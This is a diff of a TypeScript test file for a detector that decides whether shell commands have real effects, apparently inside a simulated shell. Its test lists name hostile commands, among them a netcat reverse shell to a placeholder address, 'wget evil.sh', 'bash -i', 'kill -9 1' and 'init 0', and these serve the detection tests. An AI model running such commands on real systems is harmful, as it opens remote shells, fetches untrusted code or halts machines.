@@ -1,8 +1,8 @@
 import { describe, expect, test } from "bun:test"
 import {
-  builtinHasEffect,
   canaryHasEffect,
   isProse,
+  tracedHasEffect,
 } from "../../../src/twins/shell/command-effect.ts"
 
 const ran = (line: string, input: "file" | "pipe" | "none" = "none") => {
@@ -16,7 +16,16 @@ describe("canaryHasEffect", () => {
     ...["curl http://example.com/x", "ping -c 10 127.0.0.1", "nslookup example.com", "sleep 5"],
     ...["nc -e /bin/sh 192.0.2.1 4444", "kill -9 1", "sh", "bash -i", "python -c print(1)"],
     ...["find . -name x", "ps aux", "ip addr", "systemctl status", "expr 1 + 1", "wget evil.sh"],
-    ...["awk BEGIN{system('id')}", "tar xf a.tar", "date +%s", "sudo -l"],
+    ...[
+      "awk BEGIN{system('id')}",
+      "ssh root@web",
+      "scp a web:b",
+      "init 0",
+      "su root",
+      "tar xf a.tar",
+      "date +%s",
+      "sudo -l",
+    ],
   ])("is true of %p, even in prose", (line) => {
     expect(canaryHasEffect(ran(line), line !== "sh")).toBe(true)
   })
@@ -31,7 +40,7 @@ describe("canaryHasEffect", () => {
     expect(canaryHasEffect(ran(line), false)).toBe(false)
   })
 
-  test.each(["date", "who", "echo pwned", "touch pwned", "sh"])(
+  test.each(["date", "who", "echo pwned", "touch pwned", "sh", "su", "killall nginx"])(
     "counts %p only where the payload is no prose",
     (line) => {
       expect(canaryHasEffect(ran(line), false)).toBe(true)
@@ -49,18 +58,22 @@ describe("canaryHasEffect", () => {
   })
 })
 
-describe("builtinHasEffect", () => {
-  test.each(["pwd", "echo x", ". /etc/profile", "kill -9 1", "ulimit -a"])(
-    "is true of %p",
-    (line) => {
-      expect(builtinHasEffect(ran(line), false)).toBe(true)
-    },
-  )
+describe("tracedHasEffect", () => {
+  test.each([
+    ...["pwd", "echo x", ". /etc/profile", "kill -9 1", "ulimit -a"],
+    ...["set +x", "set +ex", "/tmp/x", "./x.sh", "/var/tmp/.x", "/dev/shm/a"],
+  ])("is true of %p", (line) => {
+    expect(tracedHasEffect(ran(line), false)).toBe(true)
+  })
+
+  test.each(["/usr/bin", "./lib/a.jar", "/etc/hosts", "a/b"])("is false of the path %p", (line) => {
+    expect(tracedHasEffect(ran(line), false)).toBe(false)
+  })
 
   test.each(["cd /tmp", "x=1", "set -x", "true", ":", "exit", "read line", "echo", "type"])(
     "is false of %p, which only changes the shell",
     (line) => {
-      expect(builtinHasEffect(ran(line), false)).toBe(false)
+      expect(tracedHasEffect(ran(line), false)).toBe(false)
     },
   )
 })
